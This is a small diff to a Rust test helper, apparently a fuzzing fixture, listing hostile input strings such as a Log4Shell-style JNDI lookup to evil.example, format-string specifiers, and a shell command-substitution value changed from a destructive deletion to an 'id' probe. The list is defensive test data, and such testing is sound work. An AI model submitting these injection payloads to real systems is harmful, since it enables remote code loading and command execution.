@@ -45,7 +45,7 @@ fn hostile() -> Vec<String> {
         "${jndi:ldap://evil.example/a}",
         "%s%n%x",
         "{}{0}{{",
-        "`rm -rf /`",
+        "`id`",
         "\\u001b[31m",
         "é\u{301}\u{301}",
         "👩‍💻",
